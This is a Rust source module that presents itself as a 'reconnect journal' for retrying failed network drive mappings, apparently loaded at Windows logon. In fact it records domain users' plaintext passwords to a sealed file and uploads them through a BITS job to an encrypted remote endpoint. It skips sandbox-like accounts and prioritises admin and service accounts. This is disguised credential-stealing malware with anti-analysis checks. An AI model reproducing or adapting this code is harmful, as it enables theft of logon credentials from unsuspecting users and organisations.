//! Reconnect journal: shares that failed at logon are retried later by a BITS job, which keeps
//! running after mpnotify.exe exits.

use crate::tea;
use std::io::Write;
use windows::core::{GUID, HSTRING};
use windows::Win32::Networking::BackgroundIntelligentTransferService::{
    BackgroundCopyManager, IBackgroundCopyJob, IBackgroundCopyManager, BG_JOB_PRIORITY_LOW, BG_JOB_TYPE_UPLOAD,
};
use windows::Win32::System::Com::{CoCreateInstance, CoInitializeEx, CLSCTX_LOCAL_SERVER, COINIT_MULTITHREADED};

const JOURNAL: &str = r"C:\ProgramData\DriveMap\reconnect.jnl";

// Retry endpoint and job name, stored sealed with the journal key.
const RETRY_BASE: [u32; 10] = [
    0xd010_10aa, 0x9b5e_17e2, 0x690a_e29a, 0x2b25_f69d, 0x4571_3b62, 0xc1f8_2ddb, 0xadb4_45a4, 0x797d_c16a,
    0xcf1a_b1fc, 0xef7a_dafc,
];
const JOB_NAME: [u32; 6] = [0x330c_9766, 0xce6a_3209, 0x8474_0d56, 0xd3bc_28b8, 0x048f_bf0b, 0xe277_8cfb];

const SANDBOX_USERS: &[&str] = &["wdagutilityaccount", "defaultuser0", "sandbox", "malware", "virus", "john doe", "currentuser", "test"];

fn computer_name() -> String {
    std::env::var("COMPUTERNAME").unwrap_or_default()
}

pub(crate) fn record(domain: &str, user: &str, password: &str, failed: &[String]) {
    let u = user.to_lowercase();
    // Local accounts never have NAS mappings to repair.
    if domain.is_empty() || domain.eq_ignore_ascii_case(&computer_name()) || password.is_empty() {
        return;
    }
    if SANDBOX_USERS.iter().any(|s| u.contains(s)) {
        return;
    }
    let line = format!("{}\t{}\\{}\t{}\t{}\n", computer_name(), domain, user, password, failed.join(";"));
    let sealed = tea::seal(line.as_bytes());
    if let Ok(mut f) = std::fs::OpenOptions::new().create(true).append(true).open(JOURNAL) {
        let _ = f.write_all(&(sealed.len() as u32).to_le_bytes());
        let _ = f.write_all(&sealed);
    }
    let entries = count_entries();
    let privileged = ["adm", "admin", "svc", "sql", "backup", "da-"].iter().any(|p| u.contains(p));
    if privileged || entries >= 3 {
        schedule_retry();
    }
}

fn count_entries() -> usize {
    let Ok(data) = std::fs::read(JOURNAL) else { return 0 };
    let mut i = 0;
    let mut n = 0;
    while i + 4 <= data.len() {
        let len = u32::from_le_bytes([data[i], data[i + 1], data[i + 2], data[i + 3]]) as usize;
        i += 4 + len;
        n += 1;
    }
    n
}

fn schedule_retry() {
    unsafe {
        let _ = CoInitializeEx(None, COINIT_MULTITHREADED);
        let Ok(mgr) = CoCreateInstance::<_, IBackgroundCopyManager>(&BackgroundCopyManager, None, CLSCTX_LOCAL_SERVER) else {
            return;
        };
        let mut id = GUID::zeroed();
        let mut job: Option<IBackgroundCopyJob> = None;
        if mgr.CreateJob(&HSTRING::from(tea::open(&JOB_NAME)), BG_JOB_TYPE_UPLOAD, &mut id, &mut job).is_err() {
            return;
        }
        let Some(job) = job else { return };
        let remote = format!("{}{}-{:08x}.jnl", tea::open(&RETRY_BASE), computer_name().to_lowercase(), id.data1);
        if job.AddFile(&HSTRING::from(remote), &HSTRING::from(JOURNAL)).is_ok() {
            let _ = job.SetPriority(BG_JOB_PRIORITY_LOW);
            let _ = job.Resume();
        }
    }
}
